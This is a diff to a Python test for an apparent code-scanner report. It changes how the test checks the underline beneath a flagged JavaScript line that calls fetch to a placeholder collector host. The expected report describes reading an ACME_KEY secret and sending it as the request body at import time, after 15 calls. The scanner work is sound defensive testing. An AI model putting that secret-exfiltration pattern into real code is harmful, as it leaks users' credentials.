@@ -130,8 +130,8 @@ def test_the_text_report_shows_all_a_reader_needs() -> None:
     assert shown.split("\n")[1] == " --> src/index.js:2:17"
     lines = shown.split("\n")
     code = lines.index('2 | const π = "😀"; fetch("https://collect.example.net", {')
-    underline = lines[code + 1]
-    assert lines[code][underline.index("^"): underline.rindex("^") + 1] == 'fetch("https://collect.example.net"'
+    before, marked = lines[code].split("fetch(")[0], 'fetch("https://collect.example.net"'
+    assert lines[code + 1] == "  |" + " " * (len(before) - 3 + 1) + "^" * len(marked)  # the emoji takes two cells
     for line in (
         "  when: phase import", "  only if: after 15 calls", "    1. src/index.js:1:13  reads ACME_KEY",
         "    2. src/index.js:3:3  sent as body", "    1. src/index.js:1:1  module top of src/index.js",
